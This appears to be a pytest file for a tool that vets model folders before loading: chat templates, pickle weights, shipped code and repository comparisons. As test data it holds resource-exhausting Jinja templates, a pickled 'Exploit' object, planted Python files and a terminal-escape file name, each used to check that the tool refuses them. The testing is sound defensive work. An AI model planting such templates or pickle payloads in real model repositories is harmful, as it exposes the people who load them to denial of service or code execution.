    older |= {"temperature": 1, "top_k": 50, "repetition_penalty": 1.0, "typical_p": 1.0, "eos_token_id": [2, 3]}
    settings = {**defaults, **older, "forced_eos_token_id": 2, "max_length": 20}
    assert not list(kind_faults(settings, GENERATION_KINDS, 40))
    assert not list(kind_faults({**json.loads((folder / "config.json").read_text()), **settings}, CONFIG_KINDS, 40))


def test_a_number_format_that_is_none(folder: Path) -> None:
    path = folder / "model.safetensors"
    content = path.read_bytes()
    path.write_bytes(content.replace(b'"F32"', b'"132"', 1))
    assert problems(folder) == [(Kind.BROKEN, "model.safetensors")]
    assert "unknown variant `132`" in refusal(folder)
    path.write_bytes(content)  # get it anew
    check_folder(folder)


LOOPS = [
    "{% for a in range(99999) %}{% for b in range(99999) %}{% endfor %}{% endfor %}",
    "{{ 'a' * 10**11 }}",
    "{% for a in range(99999) %}{{ 'a' * 99999 }}{% endfor %}",
]


@pytest.mark.parametrize("template", LOOPS)
@pytest.mark.parametrize("file", ["chat_template.jinja", "additional_chat_templates/x.jinja", "tokenizer_config.json"])
def test_a_chat_template_without_end(folder: Path, file: str, template: str) -> None:
    (folder / file).parent.mkdir(exist_ok=True)
    if file.endswith(".json"):
        edit(folder / file, chat_template=[{"name": "default", "template": template}])
    else:
        (folder / file).write_text(template)
    assert problems(folder) == [(Kind.COST, file)]
    assert "a chat template that is not done with a conversation of four messages: it " in refusal(folder)


def test_chat_templates_without_end(folder: Path) -> None:
    """Each of them may take its two seconds."""
    named = [{"name": str(n), "template": f"{{{{ {n} }}}}{LOOPS[0]}"} for n in range(5_000)]
    edit(folder / "tokenizer_config.json", chat_template=named)
    assert "5,000 chat templates, and a file may have 16; delete all but those in use" in refusal(folder)
    edit(folder / "tokenizer_config.json", chat_template=named[:16])
    assert problems(folder) == [(Kind.COST, "tokenizer_config.json")]  # the first is enough


@pytest.mark.parametrize("template", ["", "{{ messages[0].content }}", "{% generation %}x{% endgeneration %}", "{{ x("])
def test_other_chat_templates_are_let_be(folder: Path, template: str) -> None:
    (folder / "chat_template.jinja").write_text(template)
    assert problems(folder) == []


def test_our_own_chat_template_is_known() -> None:
    from seqloom.training.tokenizer import CHAT_TEMPLATE

    assert hashlib.sha256(CHAT_TEMPLATE.strip().encode()).hexdigest() in OUR_TEMPLATES


# Code that is passed on ---------------------------------------------------------------------------------------------


def test_changed_code_is_not_passed_on_and_the_remedy_works(folder: Path) -> None:
    check_code(folder)
    change(folder / MODELING)
    renew_manifest(folder)
    with pytest.raises(FolderError, match="If the folder is your own, seqloom upgrade") as refused:
        check_code(folder)
    assert MODELING in str(refused.value)
    command = re.search(r"seqloom (upgrade \S+) gives", str(refused.value))
    assert command
    assert verbs.main(command[1].split()) == 0
    check_code(folder)


# Against another folder, or a repository ----------------------------------------------------------------------------


def compare(folder: Path, other: Path | str, capsys: pytest.CaptureFixture[str]) -> tuple[int, list[str]]:
    code = verbs.main(["verify", str(folder), "--against", str(other)])
    captured = capsys.readouterr()
    return code, (captured.out.split("\n\n")[-1] + captured.err).splitlines()


def test_against_a_folder(folder: Path, saved: Path, capsys: pytest.CaptureFixture[str]) -> None:
    code, lines = compare(folder, saved, capsys)
    assert code == 0
    assert set(lines[:-1]) == {f"same        {path.name}" for path in saved.iterdir()}
    assert lines[-1] == f"{folder}: all {len(lines) - 1} files are those of {saved}."
    weights = bytearray((folder / "model.safetensors").read_bytes())
    weights[-1] ^= 1
    (folder / "model.safetensors").write_bytes(weights)
    (folder / "generation_config.json").unlink()
    (folder / "sub").mkdir()
    (folder / "sub" / "notes\x1b[1A").write_text("")
    change(folder / "config.json")
    code, lines = compare(folder, saved, capsys)
    assert code == 1
    assert "differs     model.safetensors: of the same size" in lines
    assert "only there  generation_config.json" in lines
    assert "only here   sub/notes\\x1b[1A" in lines
    assert any(re.fullmatch(r"differs     config.json: [\d,]+ bytes here, [\d,]+ there", line) for line in lines)
    assert lines[-1].endswith(f" files are NOT those of {saved}.")


def test_against_a_repository_nothing_is_downloaded(
    folder: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    files = {path.name: path.read_bytes() for path in folder.iterdir()}
    with logged_in(monkeypatch, tmp_path / "no token") as hub:
        hub.repositories["alice/dates"] = Repository(True, [files])
        code, lines = compare(folder, "alice/dates", capsys)
        assert (code, lines[-1]) == (0, f"{folder}: all {len(files)} files are those of alice/dates.")
        changed = files["model.safetensors"][:-1] + b"\x07"
        hub.repositories["alice/dates"].commits.append({**files, "model.safetensors": changed, "extra.txt": b""})
        code, lines = compare(folder, "alice/dates@main", capsys)
        assert code == 1
        assert {line for line in lines[:-1] if not line.startswith("same ")} == {
            "differs     model.safetensors: of the same size",
            "only there  extra.txt",
        }
        assert not [request for request in hub.requests if "/resolve/" in request]
        code, lines = compare(folder, "alice/nothing", capsys)
        assert code == 1
        assert "alice/nothing is neither a folder here nor a repository" in lines[-1]
        code, lines = compare(folder, "no such / name", capsys)
        assert "name a folder, or owner/name[@revision]" in lines[-1]


# Commands -----------------------------------------------------------------------------------------------------------


def test_verify_says_what_it_finds_and_exits_with_1_unless_all_is_released(
    folder: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert verbs.main(["verify", str(folder)]) == 0
    lines = capsys.readouterr().out.splitlines()
    assert len(lines) == len(CODE) + 1
    assert lines[-1] == f"{folder}: {ALL_IS_WELL}"
    (folder / "evil.py").write_text("")
    assert verbs.main(["verify", str(folder)]) == 1
    assert "NOT only the released code and safe files, 1 line above speaks against it" in capsys.readouterr().out
    assert verbs.main(["verify", str(folder), "--deep"]) == 2
    assert verbs.main(["verify", str(folder / "no")]) == 1


def test_generate_refuses_a_dangerous_folder_before_it_reads_it(
    folder: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    trace = tmp_path / "trace"
    torch.save({"lm_head.weight": Exploit(trace)}, folder / "pytorch_model.bin")
    (folder / "model.safetensors").unlink()
    source = tmp_path / "in"
    source.write_text("abc\n")
    assert verbs.main(["generate", str(folder), "-i", str(source)]) == 1
    assert "pytorch_model.bin: a pickle, and loading one can run anything" in capsys.readouterr().err
    assert not trace.exists()


def test_loading_runs_the_installed_classes_and_nothing_of_the_folder(
    folder: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Code of every kind that transformers would run: the model's, the tokenizer's, and one that replaces generate."""
    monkeypatch.setattr("builtins.input", pytest.fail)
    trace = tmp_path / "trace"
    (folder / "custom_generate").mkdir()
    for name in (*CODE, "mine.py", "custom_generate/generate.py"):
        (folder / name).write_text(f"open({str(trace)!r}, 'w')\n")
    renew_manifest(folder)
    edit(folder / "tokenizer_config.json", auto_map={"AutoTokenizer": [None, "mine.Tokenizer"]})
    model, tokenizer = load_folder(folder)
    assert type(model).__module__ == "seqloom.modeling.modeling_seqloom"
    assert type(tokenizer).__module__.startswith("transformers.")
    assert not trace.exists()
